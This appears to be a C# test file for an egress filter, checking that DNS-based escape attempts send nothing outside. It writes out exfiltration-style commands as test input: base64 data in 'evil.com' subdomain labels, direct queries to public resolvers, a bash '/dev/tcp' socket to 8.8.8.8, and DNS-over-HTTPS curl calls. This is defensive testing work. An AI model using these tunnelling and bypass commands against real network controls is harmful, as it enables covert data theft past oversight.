using AgentOS.Egress.Tests.Laboratory;

namespace AgentOS.Egress.Tests.Bypasses;

/// <summary>Questions for names: nothing is asked outside because of one.</summary>
public sealed class ResolverTests(Internet internet)
{
    private const string Ask = "/usr/bin/python3 /lab/ask.py";

    [Theory]
    [Trait("Bypass", "N24")]
    [InlineData(Starter.Root)]
    [InlineData(Starter.OrdinaryUser)]
    public async Task Data_in_labels_of_a_foreign_zone_stays_inside(Starter starter)
    {
        using EgressHost host = new(internet, starter);
        Attempt attempt = await host.TryAsync(["ok.com"], $$"""
            {{Ask}} 127.0.0.1 udp {1..50}.aGVsbG8gd29ybGQ.evil.com | grep -c 'rcode=[35] answers=0'
            getent hosts secret.evil.com || echo not found
            """);
        attempt.SentNothing().Printed("50\n", "not found").Recorded("no-rule");
    }

    [Fact]
    [Trait("Bypass", "N25")]
    public async Task Data_in_labels_of_an_allowed_zone_is_not_asked_for_and_cannot_go_on_for_long()
    {
        using EgressHost host = new(internet);
        Attempt apex = await host.TryAsync(["ok.com"], $"{Ask} 127.0.0.1 udp data.ok.com");
        apex.SentNothing().DidNotPrint("answers=1");
        // Answers are our own addresses: nobody outside hears of the question.
        Attempt wildcard = await host.TryAsync(["*.ok.com"], $$"""
            {{Ask}} 127.0.0.1 udp d{1..400}.ok.com | grep -c 'answers=1'
            """);
        wildcard.SentNothing().Recorded("tunnel");
    }

    [Theory]
    [Trait("Bypass", "N26")]
    [InlineData(Starter.Root)]
    [InlineData(Starter.OrdinaryUser)]
    public async Task Whatever_name_server_is_asked_it_is_ours(Starter starter)
    {
        using EgressHost host = new(internet, starter);
        Attempt attempt = await host.TryAsync(["ok.com"], $"""
            {Ask} 8.8.8.8 udp ok.com evil.com; {Ask} 8.8.8.8 tcp ok.com evil.com; {Ask} 2001:4860:4860::8888 tcp ok.com
            /usr/bin/python3 /lab/send.py 8.8.8.8:853 8.8.8.8:443 1.1.1.1:784 [2001:4860:4860::8888]:53 127.0.0.1:5355 8.8.8.8:137
            try tls bash -c 'exec 9<>/dev/tcp/8.8.8.8/853'
            try https curl -sSfk --max-time 20 'https://1.1.1.1/dns-query?name=ok.com'
            try google curl -sSfk --max-time 20 'https://dns.google/resolve?name=ok.com'
            """);
        attempt.SentNothing().DidNotPrint("tls=0", "https=0", "google=0", "silent", "answered").Printed("ok.com rcode=0 answers=1");
        Assert.Equal(3, attempt.Output.Split("ok.com rcode=0 answers=1").Length - 1);
    }

    [Fact]
    [Trait("Bypass", "N27")]
    public async Task Questions_that_carry_more_than_addresses_get_nothing()
    {
        using EgressHost host = new(internet);
        Attempt attempt = await host.TryAsync(["ok.com"], $"""
            for type in 16 10 255 252 12 15 2 6 33 35 257; do {Ask} 127.0.0.1 udp ok.com type=$type; done
            {Ask} 127.0.0.1 tcp ok.com type=252
            echo with padding; {Ask} 127.0.0.1 udp ok.com edns
            """);
        attempt.SentNothing().Recorded("query-type");
        Assert.DoesNotContain("answers=1", attempt.Output.Split("with padding")[0], StringComparison.Ordinal);
        Assert.Contains("rcode=0 answers=1", attempt.Output.Split("with padding")[1], StringComparison.Ordinal);
    }

    [Fact]
    [Trait("Bypass", "N37")]
    public async Task A_flood_of_names_ends_in_refusals_and_not_outside()
    {
        using EgressHost host = new(internet);
        Attempt attempt = await host.TryAsync(["*"], $$"""
            {{Ask}} 127.0.0.1 udp n{1..4000}.evil.com > /tmp/answers; wc -l < /tmp/answers
            """);
        attempt.SentNothing().Printed("4000");
    }
}
